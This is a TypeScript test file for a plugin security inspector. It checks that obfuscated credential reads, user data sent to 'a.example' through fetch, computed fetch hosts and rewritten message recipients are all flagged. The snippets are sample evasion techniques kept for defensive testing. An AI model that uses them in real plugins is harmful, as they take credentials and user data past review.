import { describe, expect, test } from "vitest";
import { inspectPlugin } from "../src/index.ts";
import { plugin } from "./fixtures.ts";

const declared = (statements: string): string =>
  plugin(statements).replace("priority: 70", "priority: 70, permissions: { hosts: [] }");

const rules = (source: string): string[] =>
  inspectPlugin(source).findings.map(({ rule }): string => rule);

describe("what the plugin takes is seen, however its name is written", () => {
  test.each([
    ["a member", `await ctx.getPlatformCreds("feishu");`],
    ["a name in brackets", `await ctx["getPlatformCreds"]("feishu");`],
    ["a name in pieces", `await ctx["getPlatform" + "Creds"]("feishu");`],
    ["a constant", `const name = "getPlatformCreds"; await ctx[name]("feishu");`],
    ["a pattern", `const { getPlatformCreds: g } = ctx; await g("feishu");`],
    ["a quoted name of a pattern", `const { "getPlatformCreds": g } = ctx; await g("feishu");`],
    [
      "a computed name of a pattern",
      `const { ["getPlatform" + "Creds"]: g } = ctx; await g("feishu");`,
    ],
    ["a copy", `const c = { ...ctx }; await c.getPlatformCreds("feishu");`],
    [
      "a copy in a copy",
      `const c = { a: { x: 1, ...ctx } }; await ({ ...c }).a.getPlatformCreds("feishu");`,
    ],
  ])("%s", (_what, statements) => {
    const found = rules(declared(statements));
    expect(found).toContain("reads-credentials");
    expect(found).toContain("permission-not-declared");
  });

  test.each([
    ["a service", `await ctx["aiService"].chat([]);`],
    ["a service of a pattern", `const { "searchService": s } = ctx; await s.search("x");`],
    ["data", `ctx.log(ctx["mediaBuffer"]);`],
  ])("%s", (_what, statements) => {
    expect(rules(declared(statements))).toContain("permission-not-declared");
  });

  test.each([
    ["a member", `await fetch("https://a.example/?" + ctx["msg"].text);`],
    ["a pattern", `const { "userId": u } = ctx; await fetch("https://a.example/?" + u);`],
  ])("what of the user goes out: %s", (_what, statements) => {
    expect(rules(plugin(statements))).toContain("sends-user-data");
  });

  test.each([
    ["a member", `await fetch(await ctx["storage"].get("x"));`],
    ["a pattern", `const { "storage": s } = ctx; await fetch(await s.get("x"));`],
  ])("where a host comes from: %s", (_what, statements) => {
    expect(rules(plugin(statements))).toContain("fetch-host-computed");
  });

  test.each([
    ["a copy of bot", `const b = { ...ctx.bot }; await b.sendText("u", "x");`, true],
    ["a copy of the context", `const c = { ...ctx }; await c.bot.sendText("u", "x");`, true],
    [
      "a method of the plugin's own",
      `const b = { ...ctx.bot, sendText() {} }; b.sendText("u");`,
      false,
    ],
    ["an object of its own", `const o = { sendText() {} }; ({ ...o }).sendText("u");`, false],
  ])("who is written to: %s", (_what, statements, isSeen) => {
    expect(rules(declared(statements)).includes("permission-not-declared")).toBe(isSeen);
  });

  const TO_OTHERS = "permission-not-declared";

  test.each([
    [
      "a clone",
      `const c = structuredClone(ctx.msg); c.from = "2002"; await ctx.bot.sendText(c.from, "x");`,
    ],
    [
      "a clone that is replied to",
      `const c = structuredClone(ctx.msg); c.from = "2002"; await ctx.bot.reply(c, "x");`,
    ],
    ["a copy", `const c = { ...ctx.msg, from: "2002" }; await ctx.bot.sendText(c.from, "x");`],
    ["a copy in place", `await ctx.bot.sendText({ ...ctx.msg, from: "2002" }.from, "x");`],
    [
      "a copy that is replied to",
      `const c = { ...ctx.msg, from: "2002" }; await ctx.bot.reply(c, "x");`,
    ],
    [
      "a copy of a copy",
      `const c = { ...ctx.msg, from: "2002" }; await ctx.bot.reply({ ...c }, "x");`,
    ],
    ["a copy of two", `await ctx.bot.reply({ ...ctx.msg, ...{ from: "2002" } }, "x");`],
    [
      "a copy with a name in pieces",
      `await ctx.bot.reply({ ...ctx.msg, ["fr" + "om"]: "2002" }, "x");`,
    ],
    [
      "a copy that is changed",
      `const c = { ...ctx.msg }; c.from = "2002"; await ctx.bot.sendText(c.from, "x");`,
    ],
    [
      "a name in brackets",
      `const c = { ...ctx.msg }; c["fr" + "om"] = "2002"; await ctx.bot.sendText(c["from"], "x");`,
    ],
    [
      "a copy with another name",
      `const c = { ...ctx.msg }, d = c; d.from = "2002"; await ctx.bot.sendText(c.from, "x");`,
    ],
    [
      "a copy to somebody of the settings",
      `const c = { ...ctx.msg, from: ctx.config.boss }; await ctx.bot.sendText(c.from, "x");`,
    ],
    [
      "Object.assign",
      `const c = Object.assign({}, ctx.msg, { from: "2002" }); await ctx.bot.sendText(c.from, "x");`,
    ],
    [
      "Object.assign in place",
      `await ctx.bot.reply(Object.assign({}, ctx.msg, { from: "2002" }), "x");`,
    ],
    [
      "Object.assign to a copy",
      `const c = { ...ctx.msg }; Object.assign(c, { from: "2002" }); await ctx.bot.sendText(c.from, "x");`,
    ],
    [
      "Reflect.set",
      `const c = { ...ctx.msg }; Reflect.set(c, "from", "2002"); await ctx.bot.sendText(c.from, "x");`,
    ],
    [
      "Object.defineProperty",
      `const c = { ...ctx.msg }; Object.defineProperty(c, "from", { value: "2002" }); await ctx.bot.sendText(c.from, "x");`,
    ],
    [
      "Object.create",
      `const c = Object.create(ctx.msg, { from: { value: "2002" } }); await ctx.bot.sendText(c.from, "x");`,
    ],
    [
      "entries",
      `const c = Object.fromEntries([...Object.entries(ctx.msg), ["from", "2002"]]); await ctx.bot.sendText(c.from, "x");`,
    ],
    [
      "JSON",
      `const c = JSON.parse(JSON.stringify(ctx.msg)); c.from = "2002"; await ctx.bot.sendText(c.from, "x");`,
    ],
    ["the message itself", `ctx.msg.from = "2002"; await ctx.bot.sendText(ctx.msg.from, "x");`],
    [
      "the message by its name",
      `const { msg } = ctx; msg.from = "2002"; await ctx.bot.reply(msg, "x");`,
    ],
    [
      "a pattern",
      `const { from } = { ...ctx.msg, from: "2002" }; await ctx.bot.sendText(from, "x");`,
    ],
    [
      "a pattern with another name",
      `const { from: f } = { ...ctx.msg, from: "2002" }; await ctx.bot.sendText(f, "x");`,
    ],
    [
      "a loop",
      `const c = { ...ctx.msg }; for (c.from of ["1", "2"]) await ctx.bot.sendText(c.from, "x");`,
    ],
    [
      "a pattern that is assigned",
      `const c = { ...ctx.msg }; [c.from] = ["2002"]; await ctx.bot.sendText(c.from, "x");`,
    ],
    [
      "a parameter",
      `await answer(ctx.bot, { ...ctx.msg, from: "2002" });`,
      `const answer = (bot, m) => bot.sendText(m.from, "x");`,
    ],
    [
      "a parameter that is replied to",
      `await answer(ctx.bot, { ...ctx.msg, from: "2002" });`,
      `const answer = (bot, m) => bot.reply(m, "x");`,
    ],
    [
      "a function's result",
      `await ctx.bot.reply(to(ctx.msg, "2002"), "x");`,
      `const to = (m, from) => ({ ...m, from });`,
    ],
    [
      "a function's returned result",
      `await ctx.bot.sendText(to(ctx.msg, "2002").from, "x");`,
      `function to(m, id) { return { ...m, from: id }; }`,
    ],
    [
      "a part of an object",
      `const o = { m: { ...ctx.msg, from: "2002" } }; await ctx.bot.reply(o.m, "x");`,
    ],
    [
      "a choice",
      `const c = ctx.config.all ? { ...ctx.msg, from: "2002" } : ctx.msg; await ctx.bot.reply(c, "x");`,
    ],
    ["a frozen copy", `await ctx.bot.reply(Object.freeze({ ...ctx.msg, from: "2002" }), "x");`],
    [
      "a copy that is set later",
      `let c; c = { ...ctx.msg, from: "2002" }; await ctx.bot.reply(c, "x");`,
    ],
    [
      "one of two values",
      `let c = ctx.msg; c = { ...c, from: "2002" }; await ctx.bot.reply(c, "x");`,
    ],
  ])("somebody else by a message that is changed: %s", (_what, statements, before = "") => {
    expect(rules(`${before}\n${declared(statements)}`)).toContain(TO_OTHERS);
  });

  test.each([
    ["a copy", `const c = { ...ctx.msg, text: "x" }; await ctx.bot.sendText(c.from, "x");`],
    ["a clone", `const c = structuredClone(ctx.msg); c.text = "x"; await ctx.bot.reply(c, "x");`],
    [
      "a copy of the message's sender",
      `await ctx.bot.reply({ ...ctx.msg, from: ctx.msg.from }, "x");`,
    ],
    ["a copy that is overwritten", `await ctx.bot.reply({ from: "2002", ...ctx.msg }, "x");`],
    [
      "Object.assign",
      `await ctx.bot.reply(Object.assign({ from: "2002" }, ctx.msg, { text: "x" }), "x");`,
    ],
    [
      "the message, beside a changed copy",
      `const c = { ...ctx.msg }; c.from = "2002"; ctx.log(c); await ctx.bot.sendText(ctx.msg.from, "x");`,
    ],
    [
      "a note of another",
      `const note = { from: "2002" }; ctx.log(note.from); await ctx.bot.reply(ctx.msg, "x");`,
    ],
    [
      "a parameter",
      `await answer(ctx.bot, { ...ctx.msg, text: "x" });`,
      `const answer = (bot, m) => bot.sendText(m.from, "x");`,
    ],
    [
      "a function's result",
      `await ctx.bot.reply(to(ctx.msg, "x"), "x");`,
      `const to = (m, text) => ({ ...m, text });`,
    ],
    [
      "a sender that is restored",
      `const c = { ...ctx.msg }; c.from = ctx.msg.from; await ctx.bot.sendText(c.from, "x");`,
    ],
    ["a default", `const { from = "2002" } = ctx.msg; await ctx.bot.sendText(from, "x");`],
    ["a list of messages", `for (const m of [ctx.msg]) await ctx.bot.reply(m, "x");`],
  ])("but not the one who is answered: %s", (_what, statements, before = "") => {
    expect(rules(`${before}\n${declared(statements)}`)).not.toContain(TO_OTHERS);
  });

  test("what belongs to the answer of a call is not given to it", () => {
    expect(rules(plugin(`ctx.log((await fetch("https://a.example/")).msg);`))).not.toContain(
      "sends-user-data",
    );
  });
});

test("the database is seen in brackets too", () => {
  expect(rules(plugin(`await ctx["pool"].query("");`))).toContain("built-in-only");
  const source = `export async function handler({ "pool": p }) { await p.query(""); return { handled: true }; }`;
  expect(rules(source)).toContain("built-in-only");
});
